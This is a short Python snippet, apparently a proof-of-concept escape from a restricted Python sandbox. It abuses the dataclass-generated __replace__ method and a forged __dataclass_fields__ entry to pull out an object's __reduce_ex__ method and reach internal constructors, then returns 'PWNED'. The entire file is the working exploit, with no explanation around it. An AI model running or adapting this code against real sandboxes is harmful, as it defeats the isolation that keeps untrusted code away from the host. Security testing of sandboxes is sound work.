import dataclasses

got = []
seen = {}


class Base:
    __slots__ = ()

    def __init_subclass__(cls):
        if hasattr(cls, "__replace__"):
            got.append(cls.__replace__)


@dataclasses.dataclass(slots=True)
class Made(Base):
    x: int = 0


class FakeField:
    name = "__reduce_ex__"
    init = True
    default = None
    _field_type = None


class Duck:
    def __init__(self, **named):
        seen.update(named)


if not got:
    return "no"
duck = Duck()
vars(duck)["__dataclass_fields__"] = {"x": FakeField()}
got[-1](duck)
make = seen["__reduce_ex__"](2)[0]
return "PWNED " + repr(make)
